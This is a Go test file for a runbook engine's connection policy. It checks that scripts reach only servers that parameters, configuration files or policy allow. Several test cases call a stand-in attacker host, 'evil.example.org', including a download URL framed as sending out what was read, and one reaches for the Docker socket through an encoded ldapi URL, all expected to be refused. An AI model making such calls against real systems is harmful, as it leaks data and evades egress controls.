package engine_test

import (
	"context"
	"encoding/json"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"testing"

	"go.starlark.net/starlark"

	"zcp2kopano/runtime/action"
	"zcp2kopano/runtime/engine"
	"zcp2kopano/runtime/exit"
	"zcp2kopano/runtime/host"
	"zcp2kopano/runtime/runbook"
	"zcp2kopano/runtime/script"
	"zcp2kopano/runtime/story"
)

// connectBuiltins connect in each way that there is; each tells the error that it met.
func connectBuiltins() []*script.Builtin {
	ways := map[string]func(c *script.Call, at string) error{
		"t.search": func(c *script.Call, at string) error {
			_, err := c.View.SearchDirectory(c.Context(), host.DirectoryConn{URLs: strings.Fields(at)}, host.DirectorySearch{Base: "dc=x", Scope: "base", Filter: "(a=b)"})
			return err
		},
		"t.pages": func(c *script.Call, at string) error {
			return c.View.SearchPages(c.Context(), host.DirectoryConn{URLs: strings.Fields(at)}, host.DirectorySearch{Base: "dc=x", Scope: "base", Filter: "(a=b)"}, func([]host.Entry) error { return nil })
		},
		"t.query": func(c *script.Call, at string) error {
			_, err := c.View.Query(c.Context(), databaseAt(at), "SELECT 1")
			return err
		},
		"t.revision": func(c *script.Call, at string) error {
			_, err := c.View.Revision(c.Context(), host.RevisionQuery{Conn: databaseAt(at), Query: "SELECT 1"})
			return err
		},
		"t.download": func(c *script.Call, at string) error {
			_, err := c.View.Download(c.Context(), at, "", host.Secret{})
			return err
		},
		"t.port": func(c *script.Call, at string) error {
			_, err := c.View.Answers(c.Context(), at)
			return err
		},
		"t.connect": func(c *script.Call, at string) error {
			s, err := host.ServerAt(at)
			if err != nil {
				return err
			}
			return c.Connect(s)
		},
	}
	list := testBuiltins()
	for name, way := range ways {
		list = append(list, &script.Builtin{
			Name: name, Effect: script.Read, Params: []script.Param{{Name: "at", Type: script.Text}},
			Value: func(c *script.Call) (starlark.Value, error) {
				if err := way(c, c.Secret("at").Reveal()); err != nil {
					return starlark.String(err.Error()), nil
				}
				return starlark.String("asked"), nil
			},
		})
	}
	return append(list, &script.Builtin{
		Name: "t.convert", Effect: script.Change, Params: []script.Param{{Name: "at", Type: script.String}},
		Decide: func(c *script.Call) (script.Decision, error) {
			return script.Decision{Actions: []action.Action{&action.Convert{Directory: action.Directory{URLs: []string{c.String("at")}}, Bases: []string{"dc=x"}}}}, nil
		},
	})
}

func databaseAt(at string) host.DatabaseConn {
	if strings.HasPrefix(at, "/") {
		return host.DatabaseConn{Socket: at}
	}
	name, port, _ := strings.Cut(at, ":")
	number, _ := strconv.Atoi(port)
	return host.DatabaseConn{Host: name, Port: number}
}

const connectFixture = testFixture + `
-- /etc/mail/server.cfg --
db = db.example.org, port 3307
ldap_uri = ldaps://ldap.example.org
socket = /srv/run/my.sock
odd = /srv/run//odd.sock
zone = fe80::1%eth0
-- /etc/mail/ldap.cfg --
!include port.cfg
ldap_host = split.example.org
-- /etc/mail/port.cfg --
ldap_port = 3268
-- /etc/mail/unread.cfg --
host = unread.example.org
-- /srv/own/root.cfg --
host = root.example.org
-- /srv/own/foreign.cfg 0644 500:500 --
host = foreign.example.org`

func connectScene(t *testing.T) *scene {
	t.Helper()
	s := newScene(t)
	s.host = fixtureHost(t, connectFixture)
	s.mkdir("/srv/a")
	return s
}

func (s *scene) connects(source string, change func(*engine.Config)) story.Verdict {
	s.t.Helper()
	dir := s.t.TempDir()
	write(s.t, dir, "site.star", source)
	rb, err := runbook.Load(context.Background(), script.LoadOptions{Name: filepath.Join(dir, "site.star"), Stock: stock(nil), Builtins: connectBuiltins()})
	if err != nil {
		s.t.Fatal(script.ErrorInfoOf(err))
	}
	cfg := s.config(rb)
	if change != nil {
		change(&cfg)
	}
	return engine.Execute(context.Background(), cfg)
}

const connectBook = `"""Connects."""

def go(url, word, pw):
    """Connect."""
    BODY

runbook = define(
    params = [
        param("url", default = "ldap://default.example.org", doc = "x"),
        param("word", default = "", doc = "x"),
        param("pw", secret = True, doc = "x"),
    ],
    steps = [go],
    allow = policy(write = ["/srv/a"], ldap = ["dc=x"], servers = ["policy.example.org", "port.example.org:390", "/srv/named.sock"]),
)
`

// TestConnections: a runbook connects to where a given parameter, a file of the host's configuration that it has read,
// or its policy points, and to nothing else, in none of the ways that there are.
func TestConnections(t *testing.T) {
	for body, refused := range map[string]bool{
		`print(t.search("ldap://evil.example.org"))`:                                                                   true,
		`print(t.pages("ldap://evil.example.org"))`:                                                                    true,
		`print(t.search("ldap://localhost ldap://evil.example.org"))`:                                                  true,
		`print(t.query("evil.example.org"))`:                                                                           true,
		`print(t.revision("evil.example.org"))`:                                                                        true,
		`print(t.download("https://evil.example.org/what-was-read"))`:                                                  true,
		`print(t.connect("https://evil.example.org"))`:                                                                 true,
		`print(t.search("ldap://localhost"))`:                                                                          false,
		`print(t.search("ldap://127.0.0.1:389"))`:                                                                      false,
		`print(t.search("ldapi:///"))`:                                                                                 false,
		`print(t.search("ldap://[::1]"))`:                                                                              false,
		`print(t.query("localhost"))`:                                                                                  false,
		`print(t.search("ldap://localhost:25"))`:                                                                       true,
		`print(t.search("ldapi://%2Fvar%2Frun%2Fdocker.sock"))`:                                                        true,
		`print(t.query("/srv/run/my.sock"))`:                                                                           true,
		`print(t.search("ldap://default.example.org"))`:                                                                true,
		`print(t.search(url))`:                                                                                         true, // its default is the runbook's own
		`print(t.search("ldap://given.example.org:1389"))`:                                                             false,
		`print(t.search("ldap://GIVEN.example.org:1389"))`:                                                             false,
		`print(t.search("ldap://given.example.org:1390"))`:                                                             true,
		`print(t.search("ldap://example.org"))`:                                                                        true, // a part of a name is another name
		`print(t.search("ldap://n.example.org"))`:                                                                      true,
		`print(t.search("ldap://secret.example.org"))`:                                                                 false,
		`print(t.search(pw))`:                                                                                          false,
		`print(t.search("ldaps://ldap.example.org"))`:                                                                  true, // nobody has read it
		`t.read("/etc/mail/server.cfg"); print(t.search("ldaps://ldap.example.org"))`:                                  false,
		`t.read("/etc/mail/server.cfg"); print(t.query("db.example.org:3307"))`:                                        false,
		`t.read("/etc/mail/server.cfg"); print(t.query("db.example.org:3308"))`:                                        true,
		`t.read("/etc/mail/server.cfg"); print(t.query("/srv/run/my.sock"))`:                                           false,
		`t.read("/etc/mail/server.cfg"); print(t.query("/srv/run/my"))`:                                                true,
		`t.read("/etc/mail/server.cfg"); print(t.search("ldap://unread.example.org"))`:                                 true,
		`t.read("/srv/own/root.cfg"); print(t.search("ldap://root.example.org"))`:                                      false,
		`t.read("/srv/own/foreign.cfg"); print(t.search("ldap://foreign.example.org"))`:                                true,
		`t.write("/srv/a/x", "h.example.org"); t.read("/srv/a/x"); print(t.query("h.example.org"))`:                    true,
		`t.read("/etc/mail/server.cfg"); print(t.query("/srv/run//odd.sock"))`:                                         false,
		`t.read("/etc/mail/ldap.cfg"); t.read("/etc/mail/port.cfg"); print(t.search("ldap://split.example.org:3268"))`: false,
		`t.read("/etc/mail/ldap.cfg"); print(t.search("ldap://split.example.org:3268"))`:                               true,
		`t.read("/etc/mail/port.cfg"); print(t.search("ldap://split.example.org:3268"))`:                               true,
		`t.read("/etc/mail/ldap.cfg"); t.read("/etc/mail/port.cfg"); print(t.search("ldap://split.example.org:3269"))`: true,
		`print(t.search("ldap://policy.example.org:77"))`:                                                              false,
		`print(t.search("ldap://port.example.org:390"))`:                                                               false,
		`print(t.search("ldap://port.example.org"))`:                                                                   true,
		`print(t.query("/srv/named.sock"))`:                                                                            false,
		`t.convert("ldap://evil.example.org")`:                                                                         true,
	} {
		t.Run(body, func(t *testing.T) {
			s := connectScene(t)
			v := s.connects(strings.Replace(connectBook, "BODY", body, 1), func(cfg *engine.Config) {
				cfg.Params = map[string]string{"word": "see ldap://given.example.org:1389/."}
				cfg.Secrets = map[string]host.Secret{"pw": host.NewSecret("ldap://secret.example.org")}
			})
			told := v.Text
			for _, e := range s.events {
				if e.Kind == story.Output {
					told += e.Text
				}
				if e.Error != nil {
					told += e.Error.Message
				}
			}
			if got := strings.Contains(told, "may not connect to"); got != refused {
				t.Errorf("refused: %v; %s", got, told)
			}
			if strings.Contains(body, "convert") && strings.Contains(string(s.log.Bytes()), `"intent"`) {
				t.Error("the conversion was begun")
			}
		})
	}
}

// TestConnectionsAreTold: once each, in the head what the policy names, and of a run that is resumed what it has
// connected to; a resumed run knows what the files that it read before point to, and what it has written itself.
func TestConnectionsAreTold(t *testing.T) {
	body := `t.read("/etc/mail/server.cfg")
    t.search("ldaps://ldap.example.org")
    t.search("ldaps://ldap.example.org")
    t.write("/srv/a/x", "own.example.org")
    t.read("STOP")
    print(t.query("db.example.org:3307"))
    t.read("/srv/a/x")
    print(t.query("own.example.org"))`
	s := connectScene(t)
	source := strings.Replace(connectBook, "BODY", body, 1)
	v := s.connects(strings.Replace(source, "STOP", "/none", 1), nil)
	told := func() (list []string) {
		for _, e := range s.events {
			if e.Kind == story.Connected {
				list = append(list, e.Text)
			}
		}
		return list
	}
	const ldap = "ldap.example.org:636: named in /etc/mail/server.cfg"
	if got := told(); v.Code != exit.Failed || len(got) != 1 || got[0] != ldap {
		t.Fatalf("%+v: told %q", v, got)
	}
	if got := strings.Join(s.events[0].Run.Servers, " "); got != "policy.example.org port.example.org:390 /srv/named.sock" {
		t.Errorf("in the head: %s", got)
	}
	previous := s.records()
	v = s.connects(strings.Replace(source, "STOP", "/none", 1), func(cfg *engine.Config) {
		s.put("/none", "")
		cfg.Previous = previous
	})
	if got := told(); v.Code != exit.Done || len(got) != 1 || got[0] != "db.example.org:3307: named in /etc/mail/server.cfg" {
		t.Errorf("%+v: told %q", v, got)
	}
	if got := strings.Join(s.events[0].Run.Servers, " "); got != "policy.example.org port.example.org:390 /srv/named.sock ldap.example.org:636" {
		t.Errorf("in the head of the resumed run: %s", got)
	}
	for _, e := range s.events {
		if strings.Contains(e.Text, "own.example.org") && !strings.Contains(e.Text, "may not connect") {
			t.Errorf("%s", e.Text)
		}
	}
}

// TestTriedPortsAreTold: nothing has to point to a port that is only tried, and each is told, once; that allows no
// connection.
func TestTriedPortsAreTold(t *testing.T) {
	body := `print(t.port("evil.example.org:389"))
    print(t.port("evil.example.org:389"))
    print(t.search("ldap://evil.example.org"))`
	s := connectScene(t)
	s.connects(strings.Replace(connectBook, "BODY", body, 1), nil)
	var told, said []string
	for _, e := range s.events {
		switch e.Kind {
		case story.Connected:
			told = append(told, e.Text)
		case story.Output:
			said = append(said, e.Text)
		}
	}
	if len(told) != 1 || told[0] != "evil.example.org:389: tried whether something answers there, nothing is sent" {
		t.Errorf("told %q", told)
	}
	if len(said) != 3 || strings.Contains(said[0], "may not connect") || !strings.Contains(said[2], "may not connect") {
		t.Errorf("said %q", said)
	}
}

// TestRefusedConnectionNamesFiles: a refusal says which files do name the server, and why they do not count.
func TestRefusedConnectionNamesFiles(t *testing.T) {
	for body, want := range map[string]string{
		`t.write("/srv/a/x", "h.example.org"); t.read("/srv/a/x"); fail(t.query("h.example.org"))`: "; /srv/a/x does, but the run has changed it (allowed",
		`t.read("/srv/own/foreign.cfg"); fail(t.query("foreign.example.org"))`:                     "; /srv/own/foreign.cfg does, but it lies outside /etc, and /srv/own/foreign.cfg belongs to",
		`t.read("/etc/mail/server.cfg"); fail(t.query("evil.example.org"))`:                        "that it has read, names it (allowed",
	} {
		if v := connectScene(t).connects(strings.Replace(connectBook, "BODY", body, 1), nil); !strings.Contains(v.Text, want) {
			t.Errorf("%s: %s", body, v.Text)
		}
	}
}

// TestOddServerIsResumed: a server that the configuration names need not be one that a policy would take.
func TestOddServerIsResumed(t *testing.T) {
	s := connectScene(t)
	source := strings.Replace(connectBook, "BODY", `t.read("/etc/mail/server.cfg"); t.search("ldap://[fe80::1%25eth0]"); t.write("/srv/a/x", "x"); t.read("/none")`, 1)
	if v := s.connects(source, nil); v.Code != exit.Failed || s.kinds(story.Connected) != 1 {
		t.Fatalf("%+v", v)
	}
	previous := s.records()
	s.put("/none", "")
	if v := s.connects(source, func(cfg *engine.Config) { cfg.Previous = previous }); v.Code != exit.Done {
		t.Errorf("%+v", v)
	}
}

// TestRunOfVersionWithoutSources: a run that was begun by a version which did not note what it read goes on, and tells
// that a connection is not judged. One that did note it, or is of this version, is judged.
func TestRunOfVersionWithoutSources(t *testing.T) {
	source := strings.Replace(connectBook, "BODY", `t.read("/etc/mail/server.cfg")
    t.write("/srv/a/x", "x")
    t.read("/none")
    print(t.query("db.example.org:3307"))
    print(t.query("evil.example.org"))`, 1)
	for name, c := range map[string]struct {
		version string
		strip   bool
		want    []string
	}{
		"older":           {"older", true, []string{"db.example.org:3307: not judged, since version older", "evil.example.org:3306: not judged"}},
		"older, noted":    {"older", false, []string{"db.example.org:3307: named in /etc/mail/server.cfg"}},
		"this, not noted": {"test", true, nil},
	} {
		s := connectScene(t)
		if v := s.connects(source, func(cfg *engine.Config) { cfg.Version = c.version }); v.Code != exit.Failed {
			t.Fatalf("%+v", v)
		}
		previous := s.records()
		for i := range previous {
			var data map[string]json.RawMessage
			if err := json.Unmarshal(previous[i].Data, &data); err != nil {
				t.Fatal(err)
			}
			if _, noted := data["from"]; noted && c.strip {
				delete(data, "from")
				previous[i].Data, _ = json.Marshal(data)
			}
		}
		s.put("/none", "")
		s.connects(source, func(cfg *engine.Config) { cfg.Previous = previous })
		var told []string
		for _, e := range s.events {
			if e.Kind == story.Connected {
				told = append(told, e.Text)
			}
		}
		if !slices.EqualFunc(told, c.want, strings.HasPrefix) {
			t.Errorf("%s: told %q", name, told)
		}
	}
}

// TestResumeForOtherSystems: a runbook that is not for the host changes nothing of a run that had begun.
func TestResumeForOtherSystems(t *testing.T) {
	const book = `
def STEP():
    """Write."""
    t.write("/srv/a/x", "x")
    t.read("/none")

runbook = define(steps = [STEP], allow = policy(write = ["/srv/a"])SYSTEMS)
`
	s := connectScene(t)
	source := func(step, systems string) string {
		return strings.NewReplacer("STEP", step, "SYSTEMS", systems).Replace(book)
	}
	if v := s.connects(source("one", ""), nil); v.Code != exit.Failed {
		t.Fatalf("%+v", v)
	}
	previous := s.records()
	v := s.connects(source("two", `, systems = ["rhel >= 7"]`), func(cfg *engine.Config) { cfg.Previous = previous })
	if v.Code != exit.Inhibited || s.text("/srv/a/x") != "x" || v.Changes != 1 {
		t.Errorf("%+v, and /srv/a/x holds %q", v, s.text("/srv/a/x"))
	}
}
